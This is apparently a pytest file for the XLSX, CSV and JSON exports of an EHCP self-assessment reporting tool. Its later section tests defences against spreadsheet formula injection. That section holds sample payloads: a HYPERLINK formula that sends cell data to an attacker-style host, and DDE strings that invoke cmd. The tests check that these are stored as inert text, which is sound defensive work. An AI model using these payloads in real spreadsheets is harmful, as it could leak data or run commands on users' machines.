"""Exports: the self-assessment XLSX in the tool's layout, and the summary for the dashboard."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import zipfile
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import Cell

from bot.cli.demo import load_demo
from bot.cli.main import main
from bot.files.inert import FORMULA_STARTS, append_inert, csv_value, looks_like_a_formula
from bot.storage.store import Repositories, Store
from ehcp_rules import ActionProgress, AdviceRequestRecord, ExceptionReason, Rating
from tests.fakes import FakeClock

TODAY = date(2026, 11, 23)
DUE, ON_TIME = "Requests due", "% returned within 6 weeks"
PERSON = "3f2b1c4e-8a9d-4e7f-9b1a-2c3d4e5f6a7b"


@pytest.fixture
def demo(tmp_path: Path) -> str:
    with Store.open(tmp_path / "demo.db", clock=FakeClock()) as store:
        store.call(lambda r: load_demo(r, TODAY))
    return str(tmp_path / "demo.db")


def test_a_completed_assessment_exports_in_the_tools_own_layout(demo: str, tmp_path: Path) -> None:
    out = tmp_path / "paeds.xlsx"

    assert (
        main(
            [
                "export",
                "assessment",
                "--db",
                demo,
                "--service",
                "community paediatrics",
                "--out",
                str(out),
            ]
        )
        == 0
    )

    book = openpyxl.load_workbook(out)
    sheet = book["Self-assessment"]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0][0] == "Health Providers EHCP Processes Self-Assessment Tool"
    header = next(i for i, r in enumerate(rows) if r[3:7] == ["Yes", "Emerging", "No", "Comments"])
    questions = rows[header + 1 : header + 24]
    assert [r[0] for r in questions] == list(range(1, 24))
    assert questions[3][:2] == [4, "E"] and questions[3][5] == "✓"  # question 4: No
    assert questions[5][4] == "✓"  # question 6: Emerging
    assert questions[0][3] == "✓" and questions[0][6] == "Demo evidence for question 1."
    total, overall = rows[header + 24], rows[header + 25]
    assert total[2:6] == ["Total", 17, 4, 2]
    assert overall[2:4] == ["Overall RAG Rating", "RED"]
    flat = " ".join(str(v) for r in rows for v in r if v)
    assert "RED \u2013 if all essential criteria are not met" in flat
    assert "An essential criterion is met when rated Yes or Emerging" in flat
    plan = [[c.value for c in row] for row in book["Action plan"].iter_rows()]
    assert [r[0] for r in plan[1:]] == [4, 6, 10, 12, 19, 22]
    assert plan[0][4:9] == [
        "Action: what will be done",
        "When it will be completed",
        "Workstream",
        "Who is leading",
        "Progress",
    ]
    assert plan[1][4:9] == [
        "Report 6-week returns monthly from the case-management system to the DCO.",
        plan[1][5],
        "Assessment and Planning",
        "Service manager",
        "On track",
    ]
    assert plan[1][5].date() == date(2027, 2, 21)  # the date it will be completed, as a date
    assert plan[4][8] == "Not started"  # question 12's
    assert plan[1][9].date() == date(2026, 11, 23)  # since: a date, written as one


@pytest.mark.skipif(
    not (shutil.which("libreoffice") or shutil.which("soffice")),
    reason="LibreOffice is not installed here",
)
def test_the_assessment_workbook_converts_to_pdf(demo: str, tmp_path: Path) -> None:
    out = tmp_path / "paeds.xlsx"
    main(
        [
            "export",
            "assessment",
            "--db",
            demo,
            "--service",
            "Community Paediatrics",
            "--out",
            str(out),
        ]
    )
    office = shutil.which("libreoffice") or shutil.which("soffice")

    subprocess.run(
        [str(office), "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(out)],
        check=True,
        capture_output=True,
        timeout=120,
    )

    assert (tmp_path / "paeds.pdf").stat().st_size > 1000


def test_a_service_without_a_submitted_assessment_is_one_line(
    demo: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "assessment", "--db", demo, "--service", "CAMHS"]) == 2

    assert "CAMHS has not submitted a self-assessment yet." in capsys.readouterr().err


def test_the_summary_exports_as_xlsx_with_a_chart_csv_and_json(demo: str, tmp_path: Path) -> None:
    for name in ("summary.xlsx", "summary.csv", "summary.json"):
        assert (
            main(
                [
                    "export",
                    "summary",
                    "--db",
                    demo,
                    "--today",
                    "2026-11-23",
                    "--period",
                    "last quarter",
                    "--out",
                    str(tmp_path / name),
                ]
            )
            == 0
        )

    book = openpyxl.load_workbook(tmp_path / "summary.xlsx")
    by_month_header = next([c.value for c in row] for row in book["By month"].iter_rows())[1:]
    assert book.sheetnames == [
        "Services",
        "Overdue now",
        "By month",
        "Reviews by month",
        "Common barriers",
        "Chart",
    ]
    reviews = [[c.value for c in row] for row in book["Reviews by month"].iter_rows()]
    assert reviews[0][0] == "% of annual reviews held within 12 months"
    assert reviews[1][1:] == by_month_header and reviews[2][0] == "All services"
    by_month = [[c.value for c in row] for row in book["By month"].iter_rows()]
    assert by_month[0][1:] == by_month_header == [
        "Oct 2025", "Nov 2025", "Dec 2025", "Jan 2026", "Feb 2026", "Mar 2026",
        "Apr 2026", "May 2026", "Jun 2026", "Jul 2026", "Aug 2026", "Sep 2026",
    ]  # fmt: skip
    assert by_month[1][0] == "All services" and len(by_month) == 2 + 4
    services = [[c.value for c in row] for row in book["Services"].iter_rows()]
    assert services[0][0] == "Service" and services[-1][0] == "All services"
    assert services[0][:4] == ["Service", "Period from", "Period to", "Latest self-assessment RAG"]
    assert services[1][1].date() == date(2026, 7, 1)  # dates as dates
    (chart,) = book["Chart"]._charts
    assert chart.series[0].tx.strRef.f == "'Services'!P1"  # the legend: the header in words
    assert services[0][15] == "% returned within 6 weeks"
    assert (
        (tmp_path / "summary.csv")
        .read_text()
        .startswith("Service,Period from,Period to,Latest self-assessment RAG,")
    )
    assert json.loads((tmp_path / "summary.json").read_text())["period"]["label"] == (
        "Jul 2026 to Sep 2026"
    )


def test_an_unknown_export_format_is_refused(
    demo: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "summary", "--db", demo, "--out", str(tmp_path / "x.pdf")]) == 2
    assert "give a file ending in .xlsx, .csv or .json" in capsys.readouterr().err


# --- Safe output: people's text in an export is never a formula --------------------------------

HOSTILE = (
    '=HYPERLINK("https://evil.example/?d="&A1,"Sign in again")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1;=2+2",
)
"""Text as an attacker would type it; each passes the privacy screen (it holds no NHS number)."""


def _hostile_world(r: Repositories) -> None:
    """Every user-text field filled with hostile text, through the repositories (the same calls
    the dialogs, the importer and the command line make): service names and providers, an
    assessment's comments, its action owners, requests' case references, delay reasons and
    exception narratives."""
    services = [r.services.add(name, provider=HOSTILE[0], actor="test") for name in HOSTILE]
    first = services[0]
    assessment, _ = r.assessments.start_or_resume(first.id, edition="east-of-england", actor=PERSON)
    for number in range(1, 24):
        rating = Rating.NO if number == 4 else Rating.EMERGING if number == 6 else Rating.YES
        comment = HOSTILE[number % len(HOSTILE)]
        r.assessments.record_answer(assessment.id, number, rating, comment, actor=PERSON)
    r.assessments.submit(assessment.id, actor=PERSON)
    for at, action in enumerate(r.assessments.actions(assessment.id)):
        r.assessments.update_action(
            assessment.id,
            action.question,
            owner=HOSTILE[at],
            target_date=date(2027, 1, 31),
            progress=ActionProgress.ON_TRACK,
            actor=PERSON,
            action=HOSTILE[at + 2],
            workstream=HOSTILE[at + 3],
        )
    for service in services:
        for at, text in enumerate(HOSTILE):
            r.requests.add(_hostile_request(service.id, at, text), actor=PERSON)


def _hostile_request(service_id: int, at: int, text: str) -> AdviceRequestRecord:
    received = date(2026, 7, 1 + 5 * at)  # due in the summary's quarter
    fields: dict[str, object] = {
        "case_ref": f"{text[:30]}{at}",
        "service_id": service_id,
        "received_on": received,
    }
    if at % 2:
        fields |= {"returned_on": received + timedelta(days=20 + 20 * at)}
    else:
        fields |= {"exception_reason": ExceptionReason.MISSED_APPOINTMENT}
        fields |= {"exception_narrative": text, "delay_reason": text}
    return AdviceRequestRecord.model_validate(fields)


@pytest.fixture
def hostile(tmp_path: Path) -> str:
    with Store.open(tmp_path / "hostile.db", clock=FakeClock()) as store:
        store.call(_hostile_world)
    return str(tmp_path / "hostile.db")


def _export(db: str, out: Path, *what: str) -> None:
    assert main(["export", *what, "--db", db, "--out", str(out)]) == 0


def _cells(path: Path) -> list[Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_inert(path: Path) -> list[Cell]:
    cells = _cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert all(c.quotePrefix for c in cells if looks_like_a_formula(c.value))
    with zipfile.ZipFile(path) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in package.read(n) for n in sheets)
    return cells


def test_the_assessment_workbook_writes_hostile_comments_and_owners_as_text(
    hostile: str, tmp_path: Path
) -> None:
    out = tmp_path / "assessment.xlsx"

    _export(hostile, out, "assessment", "--service", HOSTILE[0])

    cells = _assert_inert(out)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(HOSTILE) <= texts  # comments and owners kept exactly, as text
    book = openpyxl.load_workbook(out)
    plan = [[c.value for c in row] for row in book["Action plan"].iter_rows()]
    assert [row[7] for row in plan[1:]] == [HOSTILE[0], HOSTILE[1]]  # who leads
    assert [row[4] for row in plan[1:]] == [HOSTILE[2], HOSTILE[3]]  # what will be done
    assert [row[6] for row in plan[1:]] == [HOSTILE[3], HOSTILE[4]]  # workstream
    assert all(c.data_type == "n" for c in book["Self-assessment"]["A"][5:28])  # numbers stay


def test_the_summary_workbook_writes_hostile_service_names_as_text_and_numbers_as_numbers(
    hostile: str, tmp_path: Path
) -> None:
    out = tmp_path / "summary.xlsx"

    _export(hostile, out, "summary", "--today", "2026-11-23", "--period", "last quarter")

    cells = _assert_inert(out)
    assert set(HOSTILE) <= {c.value for c in cells}
    services = openpyxl.load_workbook(out)["Services"]
    header = [c.value for c in services[1]]
    for row in services.iter_rows(min_row=2):
        for column in (
            DUE,
            "Returned on time",
            ON_TIME,
            "% within 6 weeks, leaving out exceptions",
        ):
            assert row[header.index(column)].data_type == "n", column
        assert row[header.index(ON_TIME)].value == 20


def test_the_summary_csv_quotes_hostile_text_and_leaves_numbers_bare(
    hostile: str, tmp_path: Path
) -> None:
    out = tmp_path / "summary.csv"

    _export(hostile, out, "summary", "--today", "2026-11-23", "--period", "last quarter")

    text = out.read_text(encoding="utf-8")
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE) + 1
    assert not [field for row in rows for field in row if field.startswith(FORMULA_STARTS)]
    assert sorted(row[0] for row in rows[:-1]) == sorted(f"'{name}" for name in HOSTILE)
    body = text.split("\n", 1)[1]  # after the header (column names, bare)
    typed = [
        list[object](row)
        for row in csv.reader(io.StringIO(body, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    ]
    # text quoted, numbers bare: a reader that types the fields gets the numbers as numbers
    assert [(row[header.index(DUE)], row[header.index(ON_TIME)]) for row in typed] == [
        (5.0, 20.0)
    ] * len(HOSTILE) + [(25.0, 20.0)]
    assert all(isinstance(row[0], str) for row in typed)


def test_the_summary_json_keeps_the_text_exactly(hostile: str, tmp_path: Path) -> None:
    out = tmp_path / "summary.json"

    _export(hostile, out, "summary", "--today", "2026-11-23", "--period", "last quarter")

    names = {s["name"] for s in json.loads(out.read_text(encoding="utf-8"))["services"]}
    assert names == set(HOSTILE)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "\n=1"])
def test_text_that_starts_like_a_formula_is_written_inertly_in_either_format(text: str) -> None:
    # (the screen removes a leading tab or line break before text is kept: tested here alone)
    book = openpyxl.Workbook()
    append_inert(book.active, [text, "plain", 3, -2.5])
    saved = io.BytesIO()
    book.save(saved)
    first, plain, three, negative = openpyxl.load_workbook(saved).active[1]

    assert (first.data_type, first.quotePrefix) == ("s", True)
    assert (plain.data_type, plain.quotePrefix) == ("s", False)
    assert (three.value, negative.value) == (3, -2.5)
    assert csv_value(text) == f"'{text}" and csv_value("plain") == "plain"
    assert csv_value(-2.5) == -2.5


def test_no_cell_is_a_formula_whatever_type_its_value_came_as() -> None:
    """openpyxl takes bytes as text, then text starting with ``=`` as a formula: the guard
    looks at the value as kept, not as given (found in review)."""
    sheet = openpyxl.Workbook().active
    append_inert(sheet, [b'=HYPERLINK("http://x","y")', "=1+1"])

    assert [(c.data_type, c.quotePrefix) for c in sheet[1]] == [("s", True), ("s", True)]
